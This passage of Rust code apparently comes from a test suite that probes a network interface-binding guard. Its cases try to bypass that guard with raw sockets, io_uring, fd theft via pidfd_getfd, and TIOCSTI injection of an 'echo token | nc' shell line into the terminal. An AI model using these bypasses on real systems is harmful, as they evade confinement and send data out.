    let (mut ok, mut refused, mut moved) = (0, 0, 0);
    let flip = move || {
        words[1].store(bad[1], Ordering::Relaxed);
        words[0].store(bad[0], Ordering::Relaxed);
    };
    race(tries, max_delay, flip, |_, go| {
        let s = new_socket(libc::AF_INET, libc::SOCK_DGRAM).unwrap_or_else(|e| report(&e));
        words[0].store(want[0], Ordering::Relaxed);
        words[1].store(want[1], Ordering::Relaxed);
        go();
        // SAFETY: setsockopt with our 5000-byte buffer.
        let rc = unsafe {
            libc::setsockopt(
                s.as_raw_fd(),
                libc::SOL_SOCKET,
                libc::SO_BINDTODEVICE,
                base as *const _,
                LEN as libc::socklen_t,
            )
        };
        if rc == 0 {
            ok += 1;
        } else {
            refused += 1;
        }
        if super::get_int(s.as_raw_fd(), libc::SO_BINDTOIFINDEX).ok() == Some(other_index) {
            moved += 1;
        }
    });
    println!("binds ok={ok} refused={refused} moved={moved}");
}

pub fn attack(kind: &str, addr: &str, port: &str, token: &str, args: &[&str]) {
    let ip: IpAddr = addr.parse().expect("ADDR");
    let port: u16 = port.parse().expect("PORT");
    let v6 = ip.is_ipv6();
    let family = if v6 { libc::AF_INET6 } else { libc::AF_INET };
    let arg = |i: usize| -> &str { args.get(i).copied().expect("missing ARG") };
    let num = |i: usize| -> u32 { arg(i).parse().expect("ARG is a number") };
    let msg = token.as_bytes();
    let dest = sockaddr(ip, port, 0);
    let udp = || new_socket(family, libc::SOCK_DGRAM).unwrap_or_else(|e| report(&e));
    let v4 = || match ip {
        IpAddr::V4(v4) => v4,
        IpAddr::V6(_) => panic!("{kind} wants an IPv4 ADDR"),
    };
    let sent = match kind {
        "sendmmsg-pktinfo" => {
            let s = udp();
            let mut cbufs: Vec<Vec<u8>> = (0..2).map(|_| control(&[pktinfo4(num(0))])).collect();
            let mut iovs: Vec<libc::iovec> = (0..2)
                .map(|_| libc::iovec {
                    iov_base: msg.as_ptr() as *mut _,
                    iov_len: msg.len(),
                })
                .collect();
            let mut msgs: Vec<libc::mmsghdr> = (0..2)
                .map(|i| {
                    // SAFETY: plain data, filled below.
                    let mut m: libc::mmsghdr = unsafe { std::mem::zeroed() };
                    m.msg_hdr.msg_name = (&dest.0 as *const libc::sockaddr_storage) as *mut _;
                    m.msg_hdr.msg_namelen = dest.1;
                    m.msg_hdr.msg_iov = &mut iovs[i];
                    m.msg_hdr.msg_iovlen = 1;
                    m.msg_hdr.msg_control = cbufs[i].as_mut_ptr().cast();
                    m.msg_hdr.msg_controllen = cbufs[i].len() as _;
                    m
                })
                .collect();
            // SAFETY: sendmmsg over the two headers built above.
            let n = unsafe { libc::sendmmsg(s.as_raw_fd(), msgs.as_mut_ptr(), 2, 0) };
            step("sendmmsg(IP_PKTINFO)", n as _)
        }
        "mapped-pktinfo" => {
            let s = new_socket(libc::AF_INET6, libc::SOCK_DGRAM).unwrap_or_else(|e| report(&e));
            let to = sockaddr(mapped(v4()), port, 0);
            step(
                "sendmsg(::ffff:ADDR, IPV6_PKTINFO)",
                send_msg(s.as_raw_fd(), Some(to), msg, &[pktinfo6(num(0))], 0),
            )
        }
        "pktinfo6" => step(
            "sendmsg(IPV6_PKTINFO)",
            send_msg(udp().as_raw_fd(), Some(dest), msg, &[pktinfo6(num(0))], 0),
        ),
        "mapped-unspec" => {
            let s = new_socket(libc::AF_INET6, libc::SOCK_DGRAM).unwrap_or_else(|e| report(&e));
            let fd = s.as_raw_fd();
            let to = sockaddr(mapped(v4()), port, 0);
            step("connect(::ffff:ADDR)", connect(fd, &to));
            step("connect(AF_UNSPEC)", unspec(fd));
            step("sendto(::ffff:ADDR)", sendto(fd, msg, &to));
            step("sendto(AF_INET ADDR)", sendto(fd, msg, &dest))
        }
        "unicast-if" => {
            let s = udp();
            let fd = s.as_raw_fd();
            // Both options take the index in network byte order.
            let (level, name) = if v6 {
                (libc::IPPROTO_IPV6, libc::IPV6_UNICAST_IF)
            } else {
                (libc::IPPROTO_IP, libc::IP_UNICAST_IF)
            };
            let value = num(0).to_be() as i32;
            step(
                "setsockopt(UNICAST_IF)",
                setsockopt(fd, level, name, &value),
            );
            step("sendto", sendto(fd, msg, &dest));
            step("connect", connect(fd, &dest));
            step("connect(AF_UNSPEC)", unspec(fd));
            step(
                "setsockopt(UNICAST_IF) after reset",
                setsockopt(fd, level, name, &value),
            );
            step("sendto after reset", sendto(fd, msg, &dest))
        }
        "mcast-if" => {
            let s = udp();
            let fd = s.as_raw_fd();
            let set = |what: &str| {
                if v6 {
                    let idx = num(0) as i32;
                    step(
                        what,
                        setsockopt(fd, libc::IPPROTO_IPV6, libc::IPV6_MULTICAST_IF, &idx),
                    )
                } else {
                    let m = libc::ip_mreqn {
                        imr_multiaddr: libc::in_addr { s_addr: 0 },
                        imr_address: libc::in_addr { s_addr: 0 },
                        imr_ifindex: num(0) as i32,
                    };
                    step(
                        what,
                        setsockopt(fd, libc::IPPROTO_IP, libc::IP_MULTICAST_IF, &m),
                    )
                }
            };
            set("setsockopt(MULTICAST_IF)");
            step("sendto(group)", sendto(fd, msg, &dest));
            step("connect", connect(fd, &dest));
            step("connect(AF_UNSPEC)", unspec(fd));
            set("setsockopt(MULTICAST_IF) after reset");
            step("sendto(group) after reset", sendto(fd, msg, &dest))
        }
        "tfo-llbind" => {
            let s = new_socket(libc::AF_INET6, libc::SOCK_STREAM).unwrap_or_else(|e| report(&e));
            let fd = s.as_raw_fd();
            let ll = sockaddr("fe80::1".parse().unwrap(), 0, num(0));
            step("bind(fe80::1%other)", bind(fd, &ll));
            // SAFETY: sendto on our fd with a sockaddr of the size given.
            let rc = unsafe {
                libc::sendto(
                    fd,
                    msg.as_ptr().cast(),
                    msg.len(),
                    libc::MSG_FASTOPEN,
                    (&dest.0 as *const libc::sockaddr_storage).cast(),
                    dest.1,
                )
            };
            let ok = step("sendto(MSG_FASTOPEN)", rc as _);
            std::thread::sleep(Duration::from_millis(300));
            ok
        }
        "raw-unspec" => {
            let s = raw_udp_socket(v6);
            let fd = s.as_raw_fd();
            let dgram = udp_datagram(port, msg);
            // A raw IPv6 socket reads the port as the protocol: none here.
            let to = sockaddr(ip, 0, 0);
            step("connect", connect(fd, &to));
            step("connect(AF_UNSPEC)", unspec(fd));
            step("sendto", sendto(fd, &dgram, &to))
        }
        "raw-pktinfo" => {
            let s = raw_udp_socket(false);
            step(
                "sendmsg(IP_PKTINFO)",
                send_msg(
                    s.as_raw_fd(),
                    Some(dest),
                    &udp_datagram(port, msg),
                    &[pktinfo4(num(0))],
                    0,
                ),
            )
        }
        "raw-hdrincl" => {
            let s = raw_udp_socket(false);
            let fd = s.as_raw_fd();
            let on: i32 = 1;
            step(
                "setsockopt(IP_HDRINCL)",
                setsockopt(fd, libc::IPPROTO_IP, libc::IP_HDRINCL, &on),
            );
            let dgram = udp_datagram(port, msg);
            let mut pkt = vec![0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 17, 0, 0, 0, 0, 0, 0];
            pkt[2..4].copy_from_slice(&((20 + dgram.len()) as u16).to_be_bytes());
            pkt.extend_from_slice(&v4().octets());
            pkt.extend_from_slice(&dgram);
            step(
                "sendmsg(IP_HDRINCL, IP_PKTINFO)",
                send_msg(fd, Some(dest), &pkt, &[pktinfo4(num(0))], 0),
            )
        }
        "raw-scope" => {
            let s = raw_udp_socket(true);
            let to = sockaddr(ip, 0, num(0));
            step(
                "sendto(ADDR%other)",
                sendto(s.as_raw_fd(), &udp_datagram(port, msg), &to),
            )
        }
        "ping-unspec" | "ping-pktinfo" => {
            let proto = if v6 {
                libc::IPPROTO_ICMPV6
            } else {
                libc::IPPROTO_ICMP
            };
            let s = bindguard::kernel::sockopt::new_socket(family, libc::SOCK_DGRAM, proto)
                .unwrap_or_else(|e| report(&e));
            let fd = s.as_raw_fd();
            let echo = echo_request(v6, msg);
            let to = sockaddr(ip, 0, 0);
            if kind == "ping-unspec" {
                step("connect", connect(fd, &to));
                step("connect(AF_UNSPEC)", unspec(fd));
                step("sendto(echo)", sendto(fd, &echo, &to))
            } else {
                step(
                    "sendmsg(echo, IP_PKTINFO)",
                    send_msg(fd, Some(to), &echo, &[pktinfo4(num(0))], 0),
                )
            }
        }
        "uring-pktinfo" | "uring-unspec" => {
            let ring = Ring::new(false);
            let mut s = sqe(IORING_OP_SOCKET, family);
            put(&mut s, 8, &(libc::SOCK_DGRAM as u64).to_ne_bytes());
            let fd = ring_step("IORING_OP_SOCKET", ring.run(s));
            if fd < 0 {
                std::process::exit(1);
            }
            // SAFETY: the ring returned a new fd of ours.
            let sock = unsafe { OwnedFd::from_raw_fd(fd) };
            println!(
                "ifindex={}",
                super::show(super::get_int(sock.as_raw_fd(), libc::SO_BINDTOIFINDEX))
            );
            let res = if kind == "uring-pktinfo" {
                let c = if v6 {
                    pktinfo6(num(0))
                } else {
                    pktinfo4(num(0))
                };
                ring_sendmsg(&ring, fd, &dest, msg, &[c])
            } else {
                let p = (&dest.0 as *const libc::sockaddr_storage).cast::<u8>();
                ring_step("IORING_OP_CONNECT", ring_connect(&ring, fd, p, dest.1));
                // SAFETY: plain data.
                let mut un: libc::sockaddr = unsafe { std::mem::zeroed() };
                un.sa_family = libc::AF_UNSPEC as u16;
                ring_step(
                    "IORING_OP_CONNECT(AF_UNSPEC)",
                    ring_connect(&ring, fd, (&un as *const libc::sockaddr).cast(), 16),
                );
                ring_sendmsg(&ring, fd, &dest, msg, &[])
            };
            ring_step("IORING_OP_SENDMSG", res) >= 0
        }
        "compat-bindtodev" | "uring-compat-bindtodev" | "uring-bindtodev" => {
            let s = udp();
            let fd = s.as_raw_fd();
            let name = arg(0).as_bytes();
            let buf = low_memory(4096);
            // SAFETY: copying the name into our low page.
            unsafe { std::ptr::copy_nonoverlapping(name.as_ptr(), buf, name.len()) };
            let rc = if kind == "compat-bindtodev" {
                #[cfg(target_arch = "x86_64")]
                let rc = syscall32(
                    SYS32_SETSOCKOPT,
                    [
                        fd as u32,
                        libc::SOL_SOCKET as u32,
                        libc::SO_BINDTODEVICE as u32,
                        buf as usize as u32,
                        name.len() as u32,
                    ],
                ) as i32;
                #[cfg(not(target_arch = "x86_64"))]
                let rc = -38;
                rc
            } else {
                let ring = Ring::new(kind == "uring-compat-bindtodev");
                ring_setsockopt(
                    &ring,
                    fd,
                    libc::SOL_SOCKET,
                    libc::SO_BINDTODEVICE,
                    buf,
                    name.len() as u32,
                )
            };
            ring_step("setsockopt(SO_BINDTODEVICE)", rc);
            println!(
                "ifindex={}",
                super::show(super::get_int(fd, libc::SO_BINDTOIFINDEX))
            );
            step("sendto", sendto(fd, msg, &dest))
        }
        "packet-send" => {
            let proto = 0x88b5u16; // IEEE 802 local experimental
            let s = bindguard::kernel::sockopt::new_socket(
                libc::AF_PACKET,
                libc::SOCK_DGRAM,
                i32::from(proto.to_be()),
            )
            .unwrap_or_else(|e| report(&e));
            // SAFETY: plain data, filled below.
            let mut sll: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
            sll.sll_family = libc::AF_PACKET as u16;
            sll.sll_protocol = proto.to_be();
            sll.sll_ifindex = num(0) as i32;
            sll.sll_halen = 6;
            sll.sll_addr[..6].copy_from_slice(&[0xff; 6]);
            // SAFETY: sendto on our fd with a sockaddr_ll of the size given.
            let rc = unsafe {
                libc::sendto(
                    s.as_raw_fd(),
                    msg.as_ptr().cast(),
                    msg.len(),
                    0,
                    (&sll as *const libc::sockaddr_ll).cast(),
                    std::mem::size_of::<libc::sockaddr_ll>() as u32,
                )
            };
            step("sendto(AF_PACKET)", rc as _)
        }
        "compat-join" => {
            let s = udp();
            let IpAddr::V4(group) = ip else {
                panic!("compat-join wants an IPv4 group")
            };
            let buf = low_memory(4096);
            let mreqn = libc::ip_mreqn {
                imr_multiaddr: libc::in_addr {
                    s_addr: u32::from(group).to_be(),
                },
                imr_address: libc::in_addr { s_addr: 0 },
                imr_ifindex: num(0) as i32,
            };
            // SAFETY: copying the option into our low page.
            unsafe { std::ptr::write_unaligned(buf.cast::<libc::ip_mreqn>(), mreqn) };
            #[cfg(target_arch = "x86_64")]
            let rc = syscall32(
                SYS32_SETSOCKOPT,
                [
                    s.as_raw_fd() as u32,
                    libc::SOL_IP as u32,
                    libc::IP_ADD_MEMBERSHIP as u32,
                    buf as usize as u32,
                    std::mem::size_of::<libc::ip_mreqn>() as u32,
                ],
            );
            #[cfg(not(target_arch = "x86_64"))]
            let rc = {
                drop(s);
                -38
            };
            let ok = ring_step("join", rc as i32) >= 0;
            std::thread::sleep(Duration::from_millis(600));
            ok
        }
        "fd-give" => {
            let s = udp();
            let unix = bindguard::kernel::sockopt::new_socket(libc::AF_UNIX, libc::SOCK_DGRAM, 0)
                .unwrap_or_else(|e| report(&e));
            let to = unix_addr(arg(0));
            let mut cbuf =
                control(&[(libc::SOL_SOCKET, libc::SCM_RIGHTS, as_bytes(&s.as_raw_fd()))]);
            let mut iov = libc::iovec {
                iov_base: msg.as_ptr() as *mut _,
                iov_len: msg.len(),
            };
            // SAFETY: plain data, filled below.
            let mut hdr: libc::msghdr = unsafe { std::mem::zeroed() };
            hdr.msg_name = (&to.0 as *const libc::sockaddr_un) as *mut _;
            hdr.msg_namelen = to.1;
            hdr.msg_iov = &mut iov;
            hdr.msg_iovlen = 1;
            hdr.msg_control = cbuf.as_mut_ptr().cast();
            hdr.msg_controllen = cbuf.len() as _;
            // SAFETY: sendmsg with the header built above.
            step(
                "sendmsg(SCM_RIGHTS)",
                unsafe { libc::sendmsg(unix.as_raw_fd(), &hdr, 0) } as _,
            )
        }
        "fd-receive" => 'receive: {
            let unix = bindguard::kernel::sockopt::new_socket(libc::AF_UNIX, libc::SOCK_DGRAM, 0)
                .unwrap_or_else(|e| report(&e));
            let at = unix_addr(arg(0));
            // SAFETY: bind on our fd with a sockaddr_un of the size given.
            let rc = unsafe {
                libc::bind(
                    unix.as_raw_fd(),
                    (&at.0 as *const libc::sockaddr_un).cast(),
                    at.1,
                )
            };
            if !step("bind(unix)", rc as _) {
                break 'receive false;
            }
            println!("ready");
            let _ = std::io::Write::flush(&mut std::io::stdout());
            let mut data = [0u8; 256];
            let mut iov = libc::iovec {
                iov_base: data.as_mut_ptr().cast(),
                iov_len: data.len(),
            };
            let mut cbuf = vec![0u8; 64];
            // SAFETY: plain data, filled below.
            let mut hdr: libc::msghdr = unsafe { std::mem::zeroed() };
            hdr.msg_iov = &mut iov;
            hdr.msg_iovlen = 1;
            hdr.msg_control = cbuf.as_mut_ptr().cast();
            hdr.msg_controllen = cbuf.len() as _;
            // SAFETY: recvmsg into the buffers above.
            let got = unsafe { libc::recvmsg(unix.as_raw_fd(), &mut hdr, 0) };
            step("recvmsg", got as _);
            // SAFETY: walking the control buffer the kernel filled.
            let fd = unsafe {
                let c = libc::CMSG_FIRSTHDR(&hdr);
                (!c.is_null() && (*c).cmsg_type == libc::SCM_RIGHTS)
                    .then(|| std::ptr::read_unaligned(libc::CMSG_DATA(c).cast::<i32>()))
            };
            let _ = std::fs::remove_file(arg(0));
            match fd {
                Some(fd) => {
                    println!("received: fd");
                    step("sendto", sendto(fd, msg, &dest))
                }
                None => {
                    println!(
                        "received: no fd (MSG_CTRUNC={})",
                        hdr.msg_flags & libc::MSG_CTRUNC != 0
                    );
                    false
                }
            }
        }
        "fd-hold" => {
            let s = udp();
            // SAFETY: prctl with plain integer arguments.
            unsafe { libc::prctl(libc::PR_SET_PTRACER, libc::c_ulong::MAX, 0, 0, 0) };
            println!("pid={} fd={}", std::process::id(), s.as_raw_fd());
            let _ = std::io::Write::flush(&mut std::io::stdout());
            std::thread::sleep(Duration::from_secs(u64::from(num(0))));
            true
        }
        "pidfd-take" => 'take: {
            // SAFETY: pidfd_open and pidfd_getfd with integer arguments.
            let pidfd = unsafe { libc::syscall(libc::SYS_pidfd_open, num(0) as i32, 0) };
            if !step("pidfd_open", pidfd as _) {
                break 'take false;
            }
            // SAFETY: as above.
            let fd =
                unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd as i32, num(1) as i32, 0) };
            step("pidfd_getfd", fd as _) && step("sendto", sendto(fd as i32, msg, &dest))
        }
        "tun-inject" => 'tun: {
            let node = std::ffi::CString::new(arg(0)).expect("NODE");
            // SAFETY: open with a valid C string.
            let fd = unsafe { libc::open(node.as_ptr(), libc::O_RDWR) };
            if !step("open", fd as _) {
                break 'tun false;
            }
            // struct ifreq: the name, then ifr_flags (IFF_TUN | IFF_NO_PI).
            let mut ifr = [0u8; 40];
            ifr[..arg(1).len()].copy_from_slice(arg(1).as_bytes());
            ifr[16..18].copy_from_slice(&(0x0001u16 | 0x1000).to_ne_bytes());
            const TUNSETIFF: libc::Ioctl = 0x4004_54ca;
            // SAFETY: ioctl on our fd with a 40-byte ifreq.
            if !step(
                "TUNSETIFF",
                unsafe { libc::ioctl(fd, TUNSETIFF, ifr.as_mut_ptr()) } as _,
            ) {
                break 'tun false;
            }
            let packet = ipv4_udp([198, 18, 0, 9], v4().octets(), port, msg);
            // SAFETY: write of our buffer to our fd.
            step(
                "write",
                unsafe { libc::write(fd, packet.as_ptr().cast(), packet.len()) } as _,
            )
        }
        "puppet" => {
            static FLAG: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
            // SAFETY: prctl with plain integer arguments.
            unsafe { libc::prctl(libc::PR_SET_PTRACER, libc::c_ulong::MAX, 0, 0, 0) };
            let mut pipe = [0i32; 2];
            // SAFETY: pipe2 fills the two fds.
            unsafe { libc::pipe2(pipe.as_mut_ptr(), libc::O_NONBLOCK) };
            println!(
                "pid={} flag={:p} wfd={}",
                std::process::id(),
                &FLAG,
                pipe[1]
            );
            let _ = std::io::Write::flush(&mut std::io::stdout());
            let until = Instant::now() + Duration::from_secs(u64::from(num(0)));
            loop {
                let mut byte = 0u8;
                // SAFETY: a one-byte read into our buffer.
                let piped = unsafe { libc::read(pipe[0], (&mut byte as *mut u8).cast(), 1) } == 1;
                if piped || FLAG.load(std::sync::atomic::Ordering::SeqCst) != 0 {
                    break step("sendto", sendto(udp().as_raw_fd(), msg, &dest));
                }
                if Instant::now() > until {
                    println!("puppet: never driven");
                    break false;
                }
                std::thread::sleep(Duration::from_millis(5));
            }
        }
        "drive" => drive(
            num(0) as i32,
            usize::from_str_radix(arg(1).trim_start_matches("0x"), 16).expect("FLAGADDR"),
            arg(2),
            args.get(3).copied(),
        ),
        "tiocsti" => {
            let line = format!("echo {token} | /bin/busybox nc -w1 {addr} {port}\n");
            let mut ok = true;
            for b in line.bytes() {
                // SAFETY: TIOCSTI with a pointer to one byte.
                let rc = unsafe { libc::ioctl(0, libc::TIOCSTI, &b as *const u8) };
                if rc < 0 {
                    ok = step("TIOCSTI", rc as _);
                    break;
                }
            }
            if ok {
                println!("TIOCSTI: ok");
            }
            ok
        }
        "clone-into" => 'clone: {
            let dir = std::ffi::CString::new(arg(0)).expect("DIR");
            // SAFETY: open with a valid C string.
            let cg = unsafe { libc::open(dir.as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY) };
            if !step("open", cg as _) {
                break 'clone false;
            }
            // struct clone_args (v2, 88 bytes): flags, pidfd, child_tid, parent_tid,
            // exit_signal, stack, stack_size, tls, set_tid, set_tid_size, cgroup.
            const CLONE_INTO_CGROUP: u64 = 0x2_0000_0000;
            let mut args = [0u64; 11];
            args[0] = CLONE_INTO_CGROUP;
            args[4] = libc::SIGCHLD as u64;
            args[10] = cg as u64;
            // SAFETY: clone3 without a new stack behaves as fork; the child only sends and exits.
            let pid = unsafe {
                libc::syscall(
                    libc::SYS_clone3,
                    args.as_mut_ptr(),
                    std::mem::size_of_val(&args),
                )
            };
            if pid == 0 {
                let ok = sendto(udp().as_raw_fd(), msg, &dest) >= 0;
                // SAFETY: leave the child at once.
                unsafe { libc::_exit(if ok { 0 } else { 1 }) };
            }
            if !step("clone3", pid as _) {
                break 'clone false;
            }
            let mut status = 0;
            // SAFETY: waiting for our child.
            unsafe { libc::waitpid(pid as i32, &mut status, 0) };
            let sent = libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0;
            println!("child send: {}", if sent { "ok" } else { "error" });
            sent
        }
        "send-loop" => {
            let until = Instant::now() + Duration::from_secs(u64::from(num(0)));
            let mut sent = 0u64;
            while Instant::now() < until {
                if let Ok(s) = new_socket(family, libc::SOCK_DGRAM)
                    && sendto(s.as_raw_fd(), msg, &dest) >= 0
                {
                    sent += 1;
                }
            }
            println!("sent={sent}");
            true
        }
        "tcp-scope" => {
            let s = new_socket(family, libc::SOCK_STREAM).unwrap_or_else(|e| report(&e));
            let fd = s.as_raw_fd();
            let to = sockaddr(ip, port, num(0));
            let ok = step("connect", connect(fd, &to))
                // SAFETY: write on our connected fd.
                && step("write", unsafe {
                    libc::write(fd, msg.as_ptr().cast(), msg.len())
                } as _);
            std::thread::sleep(Duration::from_millis(200));
            ok
        }
        "recv-unspec" => {
            let s = udp();
            let fd = s.as_raw_fd();
            let any = sockaddr(IpAddr::V4(Ipv4Addr::UNSPECIFIED), port, 0);
            step("bind(0.0.0.0:PORT)", bind(fd, &any));
            step("connect", connect(fd, &dest));
            step("connect(AF_UNSPEC)", unspec(fd));
            println!(
                "ifindex={}",
                super::show(super::get_int(fd, libc::SO_BINDTOIFINDEX))
            );
            receive_for(fd, arg(0).parse().expect("SECONDS"), false);
            true
        }
        "recv-llbind" | "listen-llbind" => {
            let stream = kind == "listen-llbind";
            let s = new_socket(
                libc::AF_INET6,
                if stream {
                    libc::SOCK_STREAM
                } else {
                    libc::SOCK_DGRAM
                },
            )
            .unwrap_or_else(|e| report(&e));
            let fd = s.as_raw_fd();
            let at = sockaddr(ip, port, num(0));
            step("bind(ADDR%other)", bind(fd, &at));
            println!(
                "ifindex={}",
                super::show(super::get_int(fd, libc::SO_BINDTOIFINDEX))
            );
            if stream {
                // SAFETY: listen on our fd.
                step("listen", unsafe { libc::listen(fd, 8) } as _);
            }
            receive_for(fd, arg(1).parse().expect("SECONDS"), stream);
            true
        }
        "uring-compat-join" => {
            let ring = Ring::new(true);
            let s = udp();
            let buf = low_memory(4096);
            let (level, name, len) = match ip {
                IpAddr::V4(g) => {
                    let m = libc::ip_mreqn {
                        imr_multiaddr: libc::in_addr {
                            s_addr: u32::from(g).to_be(),
                        },
                        imr_address: libc::in_addr { s_addr: 0 },
                        imr_ifindex: num(0) as i32,
                    };
                    // SAFETY: writing the option into our low page.
                    unsafe { buf.cast::<libc::ip_mreqn>().write(m) };
                    (libc::IPPROTO_IP, libc::IP_ADD_MEMBERSHIP, 12)
                }
                IpAddr::V6(g) => {
                    let m = libc::ipv6_mreq {
                        ipv6mr_multiaddr: libc::in6_addr {
                            s6_addr: g.octets(),
                        },
                        ipv6mr_interface: num(0),
                    };
                    // SAFETY: writing the option into our low page.
                    unsafe { buf.cast::<libc::ipv6_mreq>().write(m) };
                    (libc::IPPROTO_IPV6, libc::IPV6_ADD_MEMBERSHIP, 20)
                }
            };
            let rc = ring_setsockopt(&ring, s.as_raw_fd(), level, name, buf, len);
            let ok = ring_step("join", rc) >= 0;
            std::thread::sleep(Duration::from_secs(1));
            ok
        }
        "race-join" => {
            let max_delay = args.get(3).map_or(200, |d| d.parse().expect("MAX_DELAY"));
            race_join(ip, num(0), num(1), num(2), max_delay);
            true
        }
        "race-bind" => {
            let max_delay = args.get(4).map_or(200, |d| d.parse().expect("MAX_DELAY"));
            race_bind(arg(0), arg(1), num(2), num(3), max_delay);
            true
        }
        _ => panic!("unknown attack {kind}"),
    };
    std::thread::sleep(Duration::from_millis(100));
    std::process::exit(i32::from(!sent));
}
